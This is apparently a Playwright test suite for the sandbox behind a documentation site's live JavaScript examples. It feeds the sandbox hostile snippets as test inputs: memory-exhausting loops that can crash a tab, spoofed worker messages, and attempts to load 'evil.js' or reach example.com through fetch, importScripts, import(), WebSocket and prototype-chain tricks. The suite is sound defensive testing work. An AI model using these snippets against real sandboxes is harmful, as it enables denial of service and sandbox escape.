/**
 * Live examples that misbehave, in chromium: code a reader can type into an example (or a shared
 * playground link can carry) that allocates without bound, loops, throws what is not an Error,
 * talks to the worker's channel to the page or closes the worker, reaches for the network, or
 * looks for the page. For each: the failure shows in the example's own alert with a clear
 * message, the page answers and takes clicks meanwhile, nothing is requested from another host,
 * and the example runs normally right after.
 */
import { after, before, describe, it, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';

import { useSiteUnderTest } from './harness';
import { editAndRun, example, renderedFeatures } from './live-example-helpers';
import { timeLimitMs } from '../../plugins/features/live-examples/runner/client';

interface AbuseCase {
  /** What the example does. */
  readonly name: string;
  readonly code: string;
  /** The message its alert shows; or, for code whose own run succeeds, the result it shows. */
  readonly shows: { alert: RegExp } | { result: string };
  /** Runs until the time limit stops it: the page is checked while it runs. */
  readonly runsUntilStopped?: boolean;
  /** Checks on the page after the case, for cases aimed at it. */
  readonly pageAfter?: (page: Page) => Promise<void>;
  /** Why the runner does not contain this case yet: the case is then reported as a todo. */
  readonly knownGap?: string;
}

const outsider = 'https://example.com';
const stoppedAtTimeLimit = new RegExp(`TimeoutError: Stopped: the example ran longer than ${timeLimitMs / 1000} s\\.`);
const refusedNetwork = (what: string) =>
  new RegExp(`Error: Examples cannot use ${what.replace(/[()]/g, '\\$&')}: they run on Turf alone, without network access\\.`);
const refusedChannel = (what: string) => new RegExp(`Error: Examples cannot use ${what.replace(/[()]/g, '\\$&')}: `);

const memory: AbuseCase[] = [
  {
    name: 'doubles a string without bound',
    code: 'let text = "turf";\nwhile (true) text += text;',
    shows: { alert: /RangeError: Invalid string length \(line 2, column \d+\)/ },
  },
  { name: 'loops forever', code: 'while (true) {}', shows: { alert: stoppedAtTimeLimit }, runsUntilStopped: true },
];

/**
 * A dedicated worker lives in its page's renderer process. When a worker's V8 heap runs out
 * (chromium logs "V8 javascript OOM" on the worker's thread), chromium ends the process, page
 * included: the tab crashes. ArrayBuffer memory comes from the process too, so after a worker has
 * taken it all, the page's next buffer can fail the same way. The runner's only defence is its
 * time limit, and an example can allocate past these limits before it. Containing them needs the
 * examples in another process (a worker inside a cross-site iframe, which site isolation gives a
 * process of its own). Each case gets a page of its own, since a crash takes the page with it.
 */
const sharedProcess = "the example worker shares the page's process and its memory limits; a crash there takes the tab";
const memoryGaps: AbuseCase[] = [
  {
    // About 0.6 GB/s here: the time limit usually stops it, but it reaches the heap limit (about
    // 4 GB) first whenever the machine runs it fast enough.
    name: 'allocates arrays without bound',
    code: 'const kept = [];\nwhile (true) kept.push(new Array(1e6).fill(1));',
    shows: { alert: stoppedAtTimeLimit },
    runsUntilStopped: true,
    knownGap: sharedProcess,
  },
  {
    // The allocation fails in the worker, but the page's next ArrayBuffer (MapLibre makes many)
    // can find the process's pool still taken by the worker's garbage.
    name: 'allocates buffers outside the JavaScript heap without bound',
    code: 'const kept = [];\nwhile (true) kept.push(new ArrayBuffer(1e9));',
    shows: { alert: /RangeError: Array buffer allocation failed \(line 2, column \d+\)/ },
    knownGap: sharedProcess,
  },
  {
    // Splitting a 128 MiB string asks for more than V8 allows at once: the tab crashes in 0.2 s.
    name: 'allocates past the heap limit at once',
    code: 'var kept = [];\nvar text = "x".repeat(2 ** 27);\nwhile (true) kept.push((text + kept.length).split(""));',
    shows: { alert: /RangeError|Stopped/ },
    knownGap: sharedProcess,
  },
];

const thrownValues: AbuseCase[] = [
  {
    name: 'throws an Error',
    code: 'var line = turf.lineString([[0, 0], [1, 1]]);\nthrow new Error("boom");',
    shows: { alert: /^Error: boom \(line 2, column \d+\)$/ },
  },
  { name: 'throws a number', code: 'throw 42;', shows: { alert: /^Error: Uncaught 42$/ } },
  { name: 'throws null', code: 'throw null;', shows: { alert: /^Error: Uncaught null$/ } },
  { name: 'throws undefined', code: 'throw undefined;', shows: { alert: /^Error: Uncaught undefined$/ } },
  { name: 'throws a plain object', code: 'throw { code: 7 };', shows: { alert: /^Error: Uncaught \{"code":7\}$/ } },
  {
    name: 'throws a circular object',
    code: 'var loop = {};\nloop.self = loop;\nthrow loop;',
    shows: { alert: /^Error: Uncaught \[object Object\]$/ },
  },
  { name: 'throws a BigInt', code: 'throw 10n;', shows: { alert: /^Error: Uncaught 10n$/ } },
  {
    name: 'throws an Error whose message is an object',
    code: 'var error = new Error("boom");\nerror.message = { not: "text" };\nthrow error;',
    shows: { alert: /^Error: \{"not":"text"\} \(line 1, column \d+\)$/ },
  },
];

const runnerChannel: AbuseCase[] = [
  {
    name: 'posts messages to the page without end',
    code: 'while (true) self.postMessage("spam");',
    shows: { alert: refusedChannel('postMessage()') },
  },
  {
    // The page numbers runs from 1: these would pose as the outcome of this run or the next ones.
    name: 'posts messages that pose as run outcomes',
    code: 'for (var id = 1; id < 200; id++) postMessage({ type: "done", id: id, outcome: { ok: true } });',
    shows: { alert: refusedChannel('postMessage()') },
  },
  { name: 'closes its worker', code: 'close();', shows: { alert: refusedChannel('close()') } },
  {
    name: 'leaves a timer behind that never returns',
    code: 'var timer = setInterval(function () {\n  while (true) {}\n}, 0);',
    shows: { result: 'Result: timer' },
  },
  { name: "replaces the worker's message handler", code: 'self.onmessage = function () {};', shows: { result: 'Result: self.onmessage' } },
];

const network: AbuseCase[] = [
  {
    name: 'loads a script from another host',
    code: `importScripts("${outsider}/evil.js");`,
    shows: { alert: refusedNetwork('importScripts()') },
  },
  { name: 'fetches from another host', code: `fetch("${outsider}/");`, shows: { alert: refusedNetwork('fetch()') } },
  {
    name: 'fetches through the prototype chain',
    code: `WorkerGlobalScope.prototype.fetch.call(self, "${outsider}/");`,
    shows: { alert: refusedNetwork('fetch()') },
  },
  {
    name: 'loads a script through the prototype chain',
    code: `Object.getPrototypeOf(Object.getPrototypeOf(self)).importScripts.call(self, "${outsider}/evil.js");`,
    shows: { alert: refusedNetwork('importScripts()') },
  },
  {
    name: 'opens an XMLHttpRequest',
    code: `var request = new XMLHttpRequest();\nrequest.open("GET", "${outsider}/");\nrequest.send();`,
    shows: { alert: refusedNetwork('XMLHttpRequest') },
  },
  { name: 'starts a worker of its own', code: `new Worker("${outsider}/worker.js");`, shows: { alert: refusedNetwork('Worker') } },
  { name: 'opens a WebSocket', code: 'new WebSocket("wss://example.com/");', shows: { alert: refusedNetwork('WebSocket') } },
  { name: 'opens an EventSource', code: `new EventSource("${outsider}/events");`, shows: { alert: refusedNetwork('EventSource') } },
];

const thePage: AbuseCase[] = [
  {
    name: 'sets the document title',
    code: 'document.title = "hacked";',
    shows: { alert: /^ReferenceError: document is not defined \(line 1, column \d+\)$/ },
    pageAfter: async (page) => assert.notEqual(await page.title(), 'hacked'),
  },
  {
    name: 'navigates the window away',
    code: `window.location.href = "${outsider}/";`,
    shows: { alert: /^ReferenceError: window is not defined \(line 1, column \d+\)$/ },
    pageAfter: async (page) => assert.match(page.url(), /\/docs\/api\/along$/),
  },
  {
    name: 'writes to localStorage',
    code: 'localStorage.setItem("turf-docs-abuse", "written");',
    shows: { alert: /^ReferenceError: localStorage is not defined \(line 1, column \d+\)$/ },
    pageAfter: async (page) => assert.equal(await page.evaluate(() => localStorage.getItem('turf-docs-abuse')), null),
  },
];

/**
 * What a list of refused APIs cannot cover: a worker has more ways to the network than can be
 * listed (and `import()` is syntax). The Content-Security-Policy the server sends with the worker
 * script (server/headers-file.mjs, `connect-src 'none'`) covers them all: chromium refuses these
 * requests itself, and the harness does not count a request the browser refused.
 */
const networkGaps: AbuseCase[] = [
  {
    name: 'imports a module from another host',
    code: `var imported = import("${outsider}/evil.js").catch(function () {});`,
    shows: { result: 'Result: imported' },
  },
  {
    name: 'fetches into the cache from another host',
    code: `var cached = caches.open("abuse").then(function (cache) { return cache.add("${outsider}/"); }).catch(function () {});`,
    shows: { result: 'Result: cached' },
  },
  {
    name: 'loads a font from another host',
    code: `var font = new FontFace("abuse", "url(${outsider}/font.woff)").load().catch(function () {});`,
    shows: { result: 'Result: font' },
  },
];

/** The page answers a round trip fast and a click on the navbar's colour mode switch takes effect. */
async function assertResponsive(page: Page, when: string): Promise<void> {
  const started = Date.now();
  assert.equal(await page.evaluate(() => 1 + 1), 2);
  const roundTripMs = Date.now() - started;
  assert.ok(roundTripMs < 1000, `${when}: the page took ${roundTripMs} ms to answer`);
  const theme = await page.locator('html').getAttribute('data-theme');
  await page.locator('.navbar button[aria-label^="Switch between dark and light mode"]').first().click();
  await page.waitForFunction((before) => document.documentElement.dataset.theme !== before, theme, { timeout: 2000 });
}

/**
 * Runs each case in turn on the first example of /docs/api/along, as a subtest of `t`: one page
 * for a group, since each case must leave the example working for the next one anyway.
 */
async function runCases(
  t: TestContext,
  withPage: ReturnType<typeof useSiteUnderTest>['withPage'],
  cases: readonly AbuseCase[],
): Promise<void> {
  await withPage('/docs/api/along', async (page) => {
    const origin = new URL(page.url()).origin;
    // Requests for another host that reach the network, from the page or its workers (where an
    // example's would come from), are recorded and aborted: nothing leaves, even on a machine
    // with a network. One the browser refuses itself (a Content-Security-Policy) never gets here.
    const foreign: string[] = [];
    await page.context().route(
      (url) => url.origin !== origin,
      (route) => {
        foreign.push(route.request().url());
        return route.abort();
      },
    );

    const scope = example(page);
    await renderedFeatures(scope);
    const result = scope.getByRole('region', { name: 'Example result' });
    for (const [index, abuse] of cases.entries()) {
      await t.test(`an example that ${abuse.name}`, { todo: abuse.knownGap }, async () => {
        foreign.splice(0); // an earlier case that failed may have left its requests here
        await editAndRun(page, scope, abuse.code);
        if (abuse.runsUntilStopped) {
          await scope.locator('[aria-label="Example result"][aria-busy="true"]').waitFor();
          await assertResponsive(page, `while the example ${abuse.name}`);
          assert.equal(await result.getAttribute('aria-busy'), 'true', 'the example was still running during the checks');
        } else {
          await assertResponsive(page, `after the example ${abuse.name} started`);
        }

        if ('alert' in abuse.shows) {
          // Up to the time limit, plus the worker's start on a loaded machine.
          const alert = scope.getByRole('alert');
          await alert.waitFor({ timeout: timeLimitMs + 10_000 });
          assert.match((await alert.innerText()).trim(), abuse.shows.alert);
        } else {
          await result.getByText(abuse.shows.result).waitFor({ timeout: 10_000 });
        }
        await abuse.pageAfter?.(page);

        // It runs normally again, on the same worker or a fresh one.
        const check = `check${index}`;
        await editAndRun(page, scope, `var ${check} = turf.distance([0, 0], [0, 1]);`);
        await result.getByText(`Result: ${check}`).waitFor({ timeout: timeLimitMs + 10_000 });
        assert.match(await result.innerText(), /111\.19/);
        assert.equal(await scope.getByRole('alert').count(), 0);
        assert.deepEqual(foreign.splice(0), [], 'requests to other hosts');
      });
    }
  });
}

describe('live examples that misbehave', () => {
  const { withPage } = useSiteUnderTest({ before, after });

  it('contain a string that grows without bound and an endless loop', { timeout: 90_000 }, (t) => runCases(t, withPage, memory));
  it('show thrown values that are not Errors as text', { timeout: 90_000 }, (t) => runCases(t, withPage, thrownValues));
  it("keep the worker's channel to the page and its life to the runner", { timeout: 90_000 }, (t) => runCases(t, withPage, runnerChannel));
  it('reach no other host through the APIs a worker has for it', { timeout: 90_000 }, (t) => runCases(t, withPage, network));
  it('cannot reach the page', { timeout: 90_000 }, (t) => runCases(t, withPage, thePage));
  it('reach no other host through import(), caches or fonts', { timeout: 90_000 }, (t) => runCases(t, withPage, networkGaps));
  for (const gap of memoryGaps) {
    it(`keep the tab alive when an example ${gap.name}`, { timeout: 90_000, todo: gap.knownGap }, (t) => runCases(t, withPage, [gap]));
  }
});
